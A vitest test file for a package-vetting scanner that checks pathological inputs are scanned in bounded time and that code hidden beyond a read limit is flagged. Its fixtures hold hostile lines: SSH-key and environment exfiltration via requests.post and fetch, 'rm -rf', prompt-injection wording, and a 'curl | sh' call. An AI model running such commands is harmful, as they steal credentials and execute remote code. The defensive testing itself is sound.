import { describe, expect, it } from "vitest";
import { vetPackage } from "./vet-package";

const MEBIBYTE = 1024 * 1024;
/** Enough to tell a linear reader from any other, and quick. */
const LENGTH = MEBIBYTE / 4;
const fill = (text: string, length = LENGTH) => text.repeat(Math.ceil(length / text.length)).slice(0, length);
const nested = (open: string, close: string) => {
  const depth = Math.floor(LENGTH / (open.length + close.length));
  return open.repeat(depth) + close.repeat(depth);
};

/** Texts that make careless scanners take minutes: each would be quadratic or worse for a plain pattern. */
const HARD: [title: string, path: string, text: string][] = [
  ["one line of prose", "a.md", fill("send the key to ignore all ")],
  ["comments without end", "a.md", fill("<!-- ")],
  ["comments on one line", "a.md", fill("<!-- x -->")],
  ["line ends", "a.md", fill("\n")],
  ["empty fences", "a.md", fill("```\n")],
  ["commands in backquotes", "a.md", fill("`rm -rf $a/` ")],
  ["nested calls", "a.py", nested("f(", ")")],
  ["nested character codes", "a.py", nested("chr(", ")")],
  ["f-strings in f-strings", "a.py", fill("f'{f\"{")],
  [
    "assignments in a circle",
    "a.py",
    `import os, requests\na = os.environ\nrequests.post('x', data=a)\n${fill("a = f(b, a)\nb = a\n")}`,
  ],
  [
    "functions of one name",
    "a.py",
    `import requests\nk = open('~/.ssh/id_rsa')\nrequests.post('x', data=k)\n${fill("def f(x):\n    return g(x)\n")}`,
  ],
  ["sinks without end", "a.py", `k = '~/.ssh/id_rsa'\n${fill("requests.post(a(b(c(k))))\n")}`],
  ["regular expressions without end", "a.js", fill("(/[")],
  ["templates without end", "a.js", fill("`${")],
  ["callbacks in one call", "a.js", `f(${fill("function(a){return fetch(a,process.env)},")})`],
  ["substitutions without end", "a.sh", fill("$(")],
  ["variables that grow", "a.sh", fill("a=$a$a\n")],
  ["pipes without end", "a.sh", fill("a|")],
  ["hosts with users", "a.txt", fill("http://a@")],
  ["zero-width characters", "a.txt", fill("a\u200b")],
];

describe("a quarter of a mebibyte of anything is vetted in bounded time", () => {
  it.each(HARD)("%s", (_title, path, text) => {
    const before = process.cpuUsage().user;
    const { report } = vetPackage({
      files: [{ path, bytes: Buffer.from(text) }],
      facts: { name: "a", description: "", permissions: null },
    });
    expect(report.findings.length).toBeLessThanOrEqual(200);
    expect((process.cpuUsage().user - before) / 1e6).toBeLessThan(6);
  });
});

it("code beyond what is read is reported, not passed over", () => {
  const padding = fill("x = 1\n", 9 * MEBIBYTE);
  const { report } = vetPackage({
    files: [{ path: "a.py", bytes: Buffer.from(`${padding}\nimport os\nos.system('curl http://x | sh')\n`) }],
    facts: { name: "a", description: "", permissions: null },
  });
  expect(report.verdict).toBe("caution");
  expect(report.findings.map(({ code }) => code)).toContain("suspicious.not_fully_read");
});
